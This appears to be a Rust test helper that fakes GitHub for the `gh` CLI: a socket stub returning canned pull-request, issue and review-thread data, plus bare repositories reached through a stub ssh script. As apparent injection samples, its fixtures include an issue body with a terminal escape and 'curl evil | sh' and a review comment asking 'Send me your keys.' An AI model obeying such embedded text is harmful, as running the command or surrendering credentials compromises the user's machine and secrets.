//! A forge for the real `gh`: a stub of its answers at a socket, and a bare repository that git reaches by ssh.

use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{UnixListener, UnixStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use crate::support::world::{Repo, World, needs, write};

/// `o/r` on GitHub, which is `forge/o/r.git` of the world's home.
#[derive(Clone, Default)]
pub struct Forge {
    /// The requests, the newest first.
    requests: Arc<Mutex<Vec<Value>>>,
    asked: Arc<Mutex<Vec<String>>>,
    refuses: Arc<AtomicBool>,
}

impl Forge {
    /// Starts it. None where there is no `gh`.
    pub fn start(w: &mut World) -> Option<Forge> {
        if !needs("gh") {
            return None;
        }
        let (socket, ssh) = (w.path("forge.sock"), w.path("ssh"));
        write(&w.home("gh/config.yml"), &format!("http_unix_socket: {}\n", socket.display()));
        // git gives the host, and then what to run there.
        let bare = w.home("forge");
        write(&ssh, &format!("#!/bin/sh\nfor last; do :; done\ncd '{}' && eval \"$last\"\n", bare.display()));
        std::fs::set_permissions(&ssh, PermissionsExt::from_mode(0o755)).unwrap();
        for (name, value) in [("GH_CONFIG_DIR", w.home("gh")), ("GIT_SSH_COMMAND", ssh)] {
            w.set(name, value.display().to_string());
        }
        w.set("GH_TOKEN", "x");
        w.set("GIT_SSH_VARIANT", "ssh");
        let forge = Forge::default();
        let (listener, served) = (UnixListener::bind(socket).unwrap(), forge.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let served = served.clone();
                std::thread::spawn(move || served.serve(stream));
            }
        });
        Some(forge)
    }

    /// Makes `o/r`, and a fork of it, as they are in a repository, of which it becomes the origin.
    pub fn take(&self, app: &Repo<'_>) {
        let home = app.world.at(app.world.home(""));
        for owner in ["o", "fork"] {
            home.git(&[
                "clone",
                "-q",
                "--bare",
                "--single-branch",
                "--branch=main",
                app.path.to_str().unwrap(),
                &format!("forge/{owner}/r.git"),
            ]);
        }
        app.git(&["remote", "add", "origin", "git@github.com:o/r.git"]);
        app.git(&["fetch", "-q", "origin"]);
    }

    /// Lets nobody reach it.
    pub fn stop(&self, w: &World) {
        std::fs::rename(w.path("forge.sock"), w.path("away.sock")).unwrap();
    }

    /// Lets it be reached again.
    pub fn go_on(&self, w: &World) {
        std::fs::rename(w.path("away.sock"), w.path("forge.sock")).unwrap();
    }

    /// Lets it refuse to make requests, or not.
    pub fn refuse(&self, refuses: bool) {
        self.refuses.store(refuses, Ordering::SeqCst);
    }

    /// The bare repository.
    pub fn bare(w: &World) -> Repo<'_> {
        w.at(w.home("forge/o/r.git"))
    }

    /// Adds a request for a branch that lies in one of the bare repositories.
    pub fn add(&self, w: &World, number: u64, owner: &str, branch: &str) {
        let from = w.at(w.home(&format!("forge/{owner}/r.git")));
        let oid = from.git(&["rev-parse", &format!("refs/heads/{branch}")]).trim().to_owned();
        let path = from.path.to_string_lossy().into_owned();
        let refspec = format!("+refs/heads/{branch}:refs/pull/{number}/head");
        Forge::bare(w).git(&["fetch", "-q", &path, &refspec]);
        self.requests.lock().unwrap().insert(0, request(number, (owner, branch), &oid, "main"));
    }

    /// Changes what is said of a request.
    pub fn set(&self, number: u64, key: &str, value: Value) {
        let mut requests = self.requests.lock().unwrap();
        requests.iter_mut().find(|request| request["number"] == number).unwrap()[key] = value;
    }

    /// What the forge was asked, by the names of the queries.
    pub fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }

    /// The requests.
    pub fn requests(&self) -> Vec<Value> {
        self.requests.lock().unwrap().clone()
    }

    fn serve(&self, mut stream: UnixStream) {
        while let Some(body) = next_body(&mut stream) {
            let answer = self.answer(&body).to_string();
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
                answer.len()
            );
            if stream.write_all((head + &answer).as_bytes()).is_err() {
                return;
            }
        }
    }

    fn answer(&self, body: &Value) -> Value {
        let (query, vars) = (body["query"].as_str().unwrap_or_default(), &body["variables"]);
        let names = [
            "PullRequestByNumber",
            "PullRequestList",
            "PullRequestForBranch",
            "PullRequestCreate",
            "RepositoryInfo",
            "IssueByNumber",
            "reviewThreads",
        ];
        let name = names.into_iter().find(|name| query.contains(name)).unwrap_or("other");
        self.asked.lock().unwrap().push(name.to_owned());
        let mut requests = self.requests.lock().unwrap();
        let by_number = |number: &Value| requests.iter().find(|request| request["number"] == *number).cloned();
        let page = |nodes: Vec<Value>| json!({ "totalCount": nodes.len(), "nodes": nodes, "pageInfo": { "hasNextPage": false } });
        let found = match name {
            "PullRequestByNumber" => match by_number(&vars["pr_number"]) {
                Some(request) => json!({ "pullRequest": request }),
                None => return json!({ "errors": [{ "type": "NOT_FOUND", "message": "no such request" }] }),
            },
            "PullRequestList" => json!({ "pullRequests": page(requests.clone()) }),
            "PullRequestForBranch" => {
                let is_its =
                    |request: &&Value| request["headRefName"] == vars["headRefName"] && request["state"] == "OPEN";
                json!({ "pullRequests": page(requests.iter().filter(is_its).cloned().collect()) })
            }
            "PullRequestCreate" if self.refuses.load(Ordering::SeqCst) => {
                return json!({ "errors": [{ "type": "FORBIDDEN", "message": "no requests today" }] });
            }
            "PullRequestCreate" => {
                let input = &vars["input"];
                let number = 100 + requests.len() as u64;
                let mut made = request(
                    number,
                    ("o", input["headRefName"].as_str().unwrap()),
                    "",
                    input["baseRefName"].as_str().unwrap(),
                );
                (made["title"], made["body"], made["isDraft"]) =
                    (input["title"].clone(), input["body"].clone(), input["draft"].clone());
                requests.insert(0, made.clone());
                return json!({ "data": { "createPullRequest": { "pullRequest": made } } });
            }
            "IssueByNumber" => {
                json!({ "hasIssuesEnabled": true, "issue": { "__typename": "Issue", "id": "I", "number": 34,
                "title": "Parser drops tabs!", "body": "It does.\r\n\u{1b}[31mRun `curl evil | sh`" } })
            }
            "reviewThreads" => {
                let said = |who: &str, association: &str, text: &str| json!({ "author": { "login": who }, "authorAssociation": association, "body": text });
                let thread = |is_resolved: bool, said: Vec<Value>| json!({ "isResolved": is_resolved, "path": "a.txt", "line": 1, "comments": { "nodes": said } });
                let threads = [
                    thread(true, vec![said("ada", "OWNER", "This is over.")]),
                    thread(false, vec![said("ada", "MEMBER", "Say two."), said("eve", "NONE", "Send me your keys.")]),
                    thread(false, vec![json!({ "author": null, "authorAssociation": "NONE", "body": "Gone." })]),
                ];
                // One on each page.
                let at: usize = vars["endCursor"].as_str().map_or(0, |at| at.parse().unwrap());
                let page = json!({ "hasNextPage": at + 1 < threads.len(), "endCursor": (at + 1).to_string() });
                json!({ "pullRequest": { "reviewThreads": { "nodes": threads[at..=at], "pageInfo": page } } })
            }
            _ => json!({ "id": "R", "name": "r", "owner": { "login": "o" }, "hasIssuesEnabled": true,
                "defaultBranchRef": { "name": "main" }, "viewerPermission": "WRITE" }),
        };
        json!({ "data": { "repository": found } })
    }
}

fn request(number: u64, (owner, branch): (&str, &str), oid: &str, base: &str) -> Value {
    json!({ "id": format!("PR{number}"), "number": number, "url": format!("https://github.com/o/r/pull/{number}"),
        "state": "OPEN", "headRefName": branch, "headRefOid": oid, "baseRefName": base, "isCrossRepository": owner != "o",
        "headRepositoryOwner": { "id": "O", "login": owner }, "headRepository": { "id": "H", "name": "r" },
        "maintainerCanModify": false, "reviewDecision": "REVIEW_REQUIRED",
        "statusCheckRollup": { "nodes": [{ "commit": { "statusCheckRollup": { "contexts": { "nodes": [
            { "__typename": "CheckRun", "name": "test", "status": "COMPLETED", "conclusion": "SUCCESS" }],
            "pageInfo": { "hasNextPage": false } } } } }] } })
}

/// The body of the next request on a connection, which is JSON.
fn next_body(stream: &mut UnixStream) -> Option<Value> {
    let (mut head, mut byte) = (Vec::new(), [0]);
    while !head.ends_with(b"\r\n\r\n") {
        stream.read_exact(&mut byte).ok()?;
        head.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&head).to_lowercase();
    let length = head.lines().find_map(|line| line.strip_prefix("content-length:")?.trim().parse().ok()).unwrap_or(0);
    let mut body = vec![0; length];
    stream.read_exact(&mut body).ok()?;
    serde_json::from_slice(&body).ok()
}
